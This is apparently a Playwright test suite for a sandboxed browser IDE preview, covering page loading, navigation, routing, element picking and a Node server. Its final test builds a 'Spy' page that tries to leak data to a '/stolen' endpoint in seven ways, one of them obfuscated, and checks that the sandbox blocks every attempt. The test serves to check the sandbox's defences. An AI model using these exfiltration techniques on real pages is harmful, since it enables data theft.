import { expect, type Page, test } from 'playwright/test'
import { listen, serveSandbox, type TestServer } from '../../testing/serve-sandbox'

let ide: TestServer

test.beforeAll(async () => {
  ide = await serveSandbox('lib/sandbox/testing/preview-page.ts')
})
test.afterAll(() => ide.close())

const site: Record<string, string> = {
  'index.html': `<!doctype html><title>Home</title><link rel="stylesheet" href="style.css">
<h1>Home</h1><a id="about" href="about.html?from=home#part">About</a>
<form action="/about.html"><input name="word" value="tea"><button id="send">Send</button></form>
<img id="picture" src="picture.svg"><script src="plain.js"></script><script type="module" src="src/main.ts"></script>`,
  'about.html': `<!doctype html><title>About</title><p id="where"></p><p id="kept"></p><p id="part">Part</p>
<script>document.getElementById('where').textContent = location.pathname + location.search + location.hash
document.getElementById('kept').textContent = localStorage.getItem('name') + ' ' + document.cookie</script>`,
  'style.css': '@import "colours.css";',
  'colours.css': 'h1 { color: rgb(4, 5, 6) }',
  'picture.svg': '<svg xmlns="http://www.w3.org/2000/svg" width="12" height="9"/>',
  'plain.js': 'var fromPlain = document.getElementById("about") !== null',
  '404.html': '<p id="lost">Lost</p>',
  'src/main.ts': `import { word } from './word'
localStorage.setItem('name', 'Ada'); document.cookie = 'session=12; path=/'
document.body.dataset.word = word as string`,
  'src/word.ts': `export const word: string = 'typed'`,
  'router.html': `<!doctype html><p id="route"></p><button id="push"></button><button id="hash"></button><script type="module" src="/router.js"></script>`,
  'router.js': `const { history, location } = window
const show = () => { document.getElementById('route').textContent = window.location.pathname + location.hash + ' ' + JSON.stringify(history.state) }
document.getElementById('push').onclick = () => { history.pushState({ n: 1 }, '', '/deep/route?x=1'); show() }
document.getElementById('hash').onclick = () => { window.location.hash = '#/users/7' }
addEventListener('popstate', show); addEventListener('hashchange', show); show()`,
}

const frameOf = (page: Page) =>
  page
    .frames()
    .find((each) => each.url().includes('/preview.html'))
    ?.childFrames()
    .at(-1)

/** Evaluates in the previewed page, whichever it is by then. */
const inPage =
  <Value>(page: Page, run: () => Value) =>
  async () =>
    frameOf(page)
      ?.evaluate(run)
      .catch(() => undefined)

async function open(page: Page, path?: string, files = site): Promise<void> {
  await page.goto(ide.origin)
  await page.evaluate(
    async ([given, start]) => {
      await window.openProject(given)
      window.preview.open(start)
    },
    [files, path] as const,
  )
  await expect
    .poll(
      inPage(page, () => document.readyState),
      { timeout: 15_000 },
    )
    .toBe('complete')
}

test('a page of the project has its styles, images, plain and typed scripts', async ({ page }) => {
  await open(page)
  await expect.poll(inPage(page, () => document.body.dataset.word)).toBe('typed')
  const look = inPage(page, () => [
    getComputedStyle(document.querySelector('h1') as HTMLElement).color,
    document.images[0]?.naturalWidth,
    Reflect.get(window, 'fromPlain'),
  ])
  expect(await look()).toEqual(['rgb(4, 5, 6)', 12, true])
})

test('links and forms lead to other pages, which find what the first one stored', async ({ page }) => {
  await open(page)
  await expect.poll(inPage(page, () => document.body.dataset.word)).toBe('typed')
  await page.waitForTimeout(100)
  await frameOf(page)?.locator('#about').click()
  await expect
    .poll(inPage(page, () => document.getElementById('where')?.textContent))
    .toBe('/about.html?from=home#part')
  expect(await inPage(page, () => document.getElementById('kept')?.textContent)()).toBe('Ada session=12')
  expect(await page.evaluate(() => window.preview.state.getState())).toMatchObject({
    url: '/about.html?from=home#part',
    title: 'About',
    canGoBack: true,
  })
  await page.evaluate(() => window.preview.go('back'))
  await expect.poll(inPage(page, () => document.title)).toBe('Home')
  await frameOf(page)?.locator('#send').click()
  await expect.poll(inPage(page, () => document.getElementById('where')?.textContent)).toBe('/about.html?word=tea')
})

test('an address that leads nowhere shows the project’s own page for that', async ({ page }) => {
  await open(page, '/nowhere')
  await expect.poll(inPage(page, () => document.getElementById('lost')?.textContent)).toBe('Lost')
})

test('routers of both kinds find an address and a history', async ({ page }) => {
  await open(page, '/router.html')
  const route = inPage(page, () => document.getElementById('route')?.textContent)
  await expect.poll(route).toBe('/router.html null')
  await frameOf(page)?.locator('#push').click()
  expect(await route()).toBe('/deep/route {"n":1}')
  await expect.poll(() => page.evaluate(() => window.preview.state.getState().url)).toBe('/deep/route?x=1')
  await page.evaluate(() => window.preview.go('back'))
  await expect.poll(route).toBe('/router.html null')
  await frameOf(page)?.locator('#hash').click()
  await expect.poll(route).toBe('/router.html#/users/7 null')
})

test('an element that the user points at is named', async ({ page }) => {
  await open(page)
  await page.evaluate(() => window.preview.pick(true))
  await page.waitForTimeout(100)
  await frameOf(page)?.locator('#about').click({ force: true })
  await expect
    .poll(() => page.evaluate(() => window.preview.state.getState().picked))
    .toMatchObject({ selector: '#about', html: expect.stringContaining('About</a>') })
  expect(await inPage(page, () => document.title)()).toBe('Home')
})

const nodeServer = `import { existsSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
createServer(async (request, response) => {
  if (request.url === '/events') {
    response.writeHead(200, { 'content-type': 'text/event-stream' })
    response.write('data: one\\n\\n')
    setTimeout(() => response.write('data: two\\n\\n'), 50)
  } else if (request.url === '/late.js') {
    response.end('globalThis.seen = location.pathname')
  } else if (request.url === '/ends' && !existsSync('ended')) {
    writeFileSync('ended', '')
    process.exit(1)
  } else if (request.method === 'POST') {
    let body = ''
    for await (const part of request) body += part
    if (request.headers['content-type'].includes('json')) response.end(JSON.stringify({ got: JSON.parse(body), cookie: request.headers.cookie, origin: request.headers.origin, isBrowser: /Mozilla/.test(request.headers['user-agent']) }))
    else response.writeHead(303, { location: '/thanks?' + body }).end()
  } else {
    response.writeHead(200, { 'content-type': 'text/html', 'set-cookie': 'id=7; HttpOnly' })
    response.end('<title>Node</title><p id="url">' + request.url + '</p><form method="post" action="/form"><input name="word" value="tea"><button id="send">Send</button></form>')
  }
}).listen(3000, () => console.log('listening'))
`

test('a server that node runs answers pages, requests, forms and event streams', async ({ page }) => {
  await page.goto(ide.origin)
  await page.evaluate(async (server) => {
    await window.openProject({ 'server.js': server, 'package.json': '{"type":"module"}' })
    await window.start('node server.js')
  }, nodeServer)
  const shownUrl = inPage(page, () => document.getElementById('url')?.textContent)
  await expect.poll(shownUrl, { timeout: 20_000 }).toBe('/')
  const answers = await frameOf(page)?.evaluate(async () => {
    const posted = await fetch('/api', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: '{"a":1}',
    })
    const events = new EventSource('/events')
    const heard: unknown[] = []
    await new Promise<void>((resolve) => {
      events.onmessage = ({ data }) => {
        if (heard.push(data) === 2) resolve()
      }
    })
    events.close()
    const request = new XMLHttpRequest()
    request.open('GET', '/xhr')
    const text = await new Promise<string>((resolve) => {
      request.onload = () => resolve(request.responseText)
      request.send()
    })
    const late = Object.assign(document.createElement('script'), { src: '/late.js' })
    await new Promise((resolve) => {
      late.onload = resolve
      document.head.append(late)
    })
    const data = await (await fetch('data:text/plain,local')).text()
    return {
      posted: await posted.json(),
      heard,
      hasXhr: text.includes('/xhr'),
      cookie: document.cookie,
      seen: Reflect.get(window, 'seen'),
      data,
    }
  })
  expect(answers).toEqual({
    posted: { got: { a: 1 }, cookie: 'id=7', origin: 'http://localhost:3000', isBrowser: true },
    heard: ['one', 'two'],
    hasXhr: true,
    cookie: '',
    seen: '/',
    data: 'local',
  })
  await frameOf(page)?.locator('#send').click()
  await expect.poll(shownUrl).toBe('/thanks?word=tea')
  // A page that its server did not answer shows when the server is back.
  await page.evaluate(() => window.preview.open('/ends'))
  await expect.poll(inPage(page, () => document.body.textContent)).toContain('cannot be shown')
  await page.evaluate(() => window.start('node server.js'))
  await expect.poll(shownUrl, { timeout: 20_000 }).toBe('/ends')
})

test('nothing of a page gets out', async ({ page }) => {
  const asked: string[] = []
  const outside = await listen((request, response) => {
    asked.push(request.url ?? '')
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end()
  })
  const away = `${outside.origin}/stolen`
  await open(page, undefined, {
    'index.html': `<!doctype html><title>Spy</title><script>
      const tries = [() => fetch('${away}?fetch'), () => { new Image().src = '${away}?image' }, () => navigator.sendBeacon('${away}?beacon'),
        () => { document.body.append(Object.assign(document.createElement('iframe'), { src: '${away}?frame' })) },
        () => { window['loc' + 'ation'].href = '${away}?navigation' }, () => new WebSocket('${away}?socket'),
        () => { document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: '${away}?prefetch' })) }]
      addEventListener('load', () => { for (const one of tries) try { Promise.resolve(one()).catch(() => 0) } catch {} })</script>`,
  })
  await page.waitForTimeout(1000)
  expect(asked).toEqual([])
  // The same is heard when the way is open.
  await page.goto(away)
  expect(asked).toContain('/stolen')
  await outside.close()
})
